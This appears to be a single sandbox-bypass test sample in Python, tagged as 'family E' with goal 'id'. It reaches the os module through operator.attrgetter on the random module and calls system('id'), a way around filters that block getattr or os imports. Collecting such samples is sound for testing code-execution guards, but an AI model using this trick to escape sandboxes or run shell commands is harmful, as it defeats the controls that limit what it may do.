# family: E (attrgetter is getattr by another name)   goal: id
import operator, random
operator.attrgetter("_os")(random).system("id")
